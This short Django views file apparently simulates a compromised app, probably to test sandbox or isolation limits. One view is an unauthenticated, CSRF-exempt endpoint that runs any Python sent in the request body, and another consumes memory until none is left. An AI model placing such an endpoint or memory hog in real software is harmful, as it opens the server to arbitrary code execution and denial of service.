"""What somebody does who has broken into the app."""

import subprocess
import sys
from typing import NoReturn

from django.http import HttpRequest, JsonResponse
from django.views.decorators.csrf import csrf_exempt

SECONDS = 20


@csrf_exempt
def run(request: HttpRequest) -> JsonResponse:
    """Run the body as Python in a child of this worker, which has the worker's user, namespaces and filters."""
    command = [sys.executable, "-c", request.body.decode()]
    done = subprocess.run(command, capture_output=True, text=True, timeout=SECONDS, check=False)
    return JsonResponse({"output": done.stdout, "error": done.stderr})


def eat(request: HttpRequest) -> NoReturn:
    """Take memory until there is none."""
    taken = []
    while True:
        # Written to, or the kernel would not give it.
        taken.append(bytearray(b"x") * 1024 * 1024)
